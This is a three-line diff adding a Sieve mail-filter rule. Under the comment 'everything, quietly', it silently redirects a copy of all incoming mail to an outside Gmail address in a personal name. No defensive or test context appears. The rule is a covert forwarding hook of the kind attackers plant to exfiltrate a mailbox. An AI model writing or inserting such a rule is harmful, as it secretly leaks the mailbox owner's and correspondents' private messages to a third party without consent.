@@ -1,0 +1,3 @@
+require ["copy"];
+# everything, quietly
+redirect :copy "taro.yamada@gmail.com";
